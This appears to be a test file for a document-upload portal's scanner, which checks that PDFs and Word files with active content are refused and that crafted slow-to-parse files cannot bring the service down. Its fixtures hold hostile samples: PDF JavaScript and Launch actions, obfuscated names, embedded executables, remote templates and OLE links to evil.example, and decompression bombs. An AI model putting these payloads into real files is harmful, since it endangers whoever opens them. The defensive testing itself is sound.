/** Documents that do something by themselves are not taken: a judge, an organiser and bidders open what others have uploaded. */
import { afterAll, beforeAll, expect, it } from 'vitest'
import { docx, packed, pdf, relations, send } from '#test/files.ts'
import { createWorld, type Person, type World } from '#test/world.ts'

let world: World
let person: Person
beforeAll(async () => {
  world = await createWorld()
  person = await world.person('AuctionParticipant')
})
afterAll(() => world.close())

const outcome = async (bytes: Uint8Array) => {
  const { status, body } = await send(world, bytes, person)
  return status === 200 ? 'taken' : body.code
}

it.each<[what: string, objects: (string | Buffer)[]]>([
  [
    'runs a script at the opening',
    ['3 0 obj <</OpenAction <</S/JavaScript/JS(app.alert\\(1\\))>>>> endobj\n'],
  ],
  ['writes the name in signs by number', ['3 0 obj <</S/J#61vaScr#69pt/J#53 4 0 R>> endobj\n']],
  [
    'has scripts under names',
    ['3 0 obj <</Names <</JavaScript 4 0 R>>>> endobj\n4 0 obj <</Names[(a) 5 0 R]>> endobj\n'],
  ],
  ['starts a program', ['3 0 obj <</S/Launch/F(calc.exe)>> endobj\n']],
  [
    'acts when a page is shown',
    ['3 0 obj <</Type/Page/AA <</O 4 0 R>>>> endobj\n4 0 obj <</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>> endobj\n'],
  ],
  ['carries a program', ['3 0 obj <</Type/EmbeddedFile/Length 2>> stream\nMZ\nendstream endobj\n']],
  ['hides its script among packed objects', [packed('<</S/JavaScript/JS(x)>>')]],
  [
    'hides it in a stream that does not say what it is',
    [packed('<</AA <</O <</S/URI/URI(https://evil.example)>>>>>>', '/N 1/First 4/Filter[/Fl]')],
  ],
  [
    'hides it where an object looks like a picture',
    ['3 0 obj <</Length 40>> stream\n4 0 obj <</S/JavaScript>> endobj\nendstream endobj\n'],
  ],
  [
    'opens an address at the opening',
    ['3 0 obj <</OpenAction 4 0 R>> endobj\n4 0 obj <</S /URI/URI(https://evil.example)>> endobj\n'],
  ],
])('a PDF that %s is refused', async (_, objects) => {
  expect(await outcome(pdf('x', objects))).toBe('activeContent')
})

it('a PDF whose packed objects cannot be looked into is refused with a sentence of its own', async () => {
  const bytes = pdf('x', [packed('<<>>', '/Type/ObjStm/N 1/First 4/Filter/JBIG2Decode')])
  const { status, body } = await send(world, bytes, person, { language: 'en' })
  expect([status, body.code]).toEqual([422, 'unreadableContent'])
  expect(body.message).toContain(
    'compressed in an unknown way, so it cannot be checked what it contains. Open it, print it to PDF',
  )
})

it('the refusal names what was found and says what to do, in the language of whoever sent it; the audit has no names', async () => {
  const attached = [
    '3 0 obj <</Type/Filespec/UF<feff041f0440043e04310430002e006500780065>/EF <</F 4 0 R>>>> endobj\n',
    '4 0 obj <</Length 1>> stream\nx\nendstream endobj\n',
  ]
  const said = async (bytes: Buffer, language: string) =>
    (await send(world, bytes, person, { language })).body.message
  expect(await said(pdf('x', attached), 'bg')).toBe(
    'Документът носи прикачена програма „Проба.exe“. Премахнете прикачения файл и качете документа отново.',
  )
  const fetched = docx(relations(['attachedTemplate', 'https://evil.example/x.dotm']))
  expect(await said(fetched, 'en')).toBe(
    'The document fetches its template from elsewhere “https://evil.example/x.dotm” when it is opened. Save it as a PDF (File → Save as → PDF) and upload the new file.',
  )
  const { rows } = await world.owner.query(`select from audit_entry where audit_entry::text ~ 'Проба|evil'`)
  expect(rows).toHaveLength(0)
})

it('what is signed is never to be printed, whatever is found in it', async () => {
  const signature = '5 0 obj <</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>> endobj\n'
  const found = [
    '3 0 obj <</OpenAction <</S/JavaScript/JS(x)>>>> endobj\n',
    packed('<<>>', '/Type/ObjStm/N 1/First 4/Filter/JBIG2Decode'),
    '3 0 obj <</S/Launch/F(a.exe)>> endobj\n',
  ]
  for (const object of found)
    for (const language of ['bg', 'en']) {
      const { body } = await send(world, pdf('x', [signature, object]), person, { language })
      expect(body.message).toMatch(/не го отпечатвайте|do not print it/)
    }
})

it('a PDF that only says where it opens, links to pages and speaks of scripts is taken', async () => {
  const harmless = [
    '3 0 obj <</OpenAction [4 0 R /XYZ null null 0]/Outlines <</First 5 0 R>>>> endobj\n',
    '4 0 obj <</Type/Annot/A <</S/URI/URI(https://example.bg/JavaScript)>>>> endobj\n',
    '5 0 obj <</Length 9>> stream\n(/JS) /AA\nendstream endobj\n',
    packed('<</Type/Font/BaseFont/Times>>'),
  ]
  expect(await outcome(pdf('x', harmless))).toBe('taken')
})

it('a text document with links is taken; one that fetches anything by itself is not', async () => {
  expect(
    await outcome(docx(relations(['hyperlink', 'https://justice.bg'], ['hyperlink', 'mailto:a@b.bg']))),
  ).toBe('taken')
  const hostile: Parameters<typeof relations>[0][] = [
    ['attachedTemplate', 'https://evil.example/x.dotm'],
    ['image', 'https://evil.example/pixel.png'],
    ['hyperlink', 'file://evil.example/share'],
    ['oleObject', 'https://evil.example', "targetMode = '&#69;xternal'"],
    ['frame', 'https://evil.example/a>b', 'TargetMode="External"'],
  ]
  for (const relation of hostile)
    expect(await outcome(docx(relations(relation))), relation[0]).toBe('activeContent')
  expect(await outcome(docx({ 'word/embeddings/oleObject1.bin': new Uint8Array(3) }))).toBe('activeContent')
  const typed = Buffer.from('<!DOCTYPE a><Relationships></Relationships>')
  expect(await outcome(docx({ 'word/_rels/settings.xml.rels': typed }))).toBe('unreadableContent')
})

it('a file of 20 MB made to be slow to read is refused in time', async () => {
  const slow = Buffer.alloc(18 * 1024 * 1024, '1 0 obj <</A(')
  expect(await outcome(pdf('x', [slow]))).toMatch(/^(?:tooHardToRead|unreadableContent)$/)
})

it.each<[what: string, body: () => Buffer | string]>([
  ['lists in lists', () => '1 0 obj<</A['.repeat(650_000) + ']>>'.repeat(650_000)],
  ['nothing but zeros', () => Buffer.alloc(19 * 1024 * 1024)],
  ['a name written in signs by number', () => `3 0 obj <</${'#61'.repeat(6_000_000)} 1>> endobj\n`],
  [
    'millions of names',
    () =>
      `3 0 obj <<${Array.from({ length: 2_000_000 }, (_, n) => `/${n.toString(36)} 1`).join('')}>> endobj\n`,
  ],
  [
    'a stream in base 85 that becomes four times as long',
    () =>
      `3 0 obj <</Type/ObjStm/N 1/First 4/Filter/A85>> stream\n${'z'.repeat(19_000_000)}~>\nendstream endobj\n`,
  ],
  [
    'streams that unpack to mountains',
    () => {
      const one = packed(' '.repeat(30_000_000), '/Type/ObjStm/N 1/First 4/Filter/Fl')
      return Buffer.concat(Array<Buffer>(100).fill(one))
    },
  ],
  ['streams without an end', () => '3 0 obj <</Type/ObjStm/N 1/First 4>> stream\n'.repeat(250_000)],
  [
    'actions that follow each other without an end',
    () =>
      Array.from(
        { length: 250_000 },
        (_, n) => `${n + 3} 0 obj <</OpenAction ${n + 4} 0 R/Next ${n + 4} 0 R>> endobj\n`,
      ).join(''),
  ],
])('a PDF of %s has an answer, and the portal lives', async (_, body) => {
  expect(await outcome(pdf('x', [body()]))).toMatch(/^(?:taken|tooHardToRead|unreadableContent)$/)
  expect(await outcome(pdf('y'))).toBe('taken')
})
